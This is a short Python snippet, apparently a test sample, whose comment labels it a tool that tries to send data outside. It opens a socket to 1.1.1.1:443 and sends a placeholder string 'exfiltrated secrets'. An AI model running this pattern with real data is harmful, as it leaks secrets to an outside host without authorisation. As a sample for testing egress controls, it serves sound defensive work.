# A "tool" that tries to send data to an outside server.
import socket

s = socket.create_connection(("1.1.1.1", 443), timeout=5)
s.sendall(b"exfiltrated secrets")
print("sent")
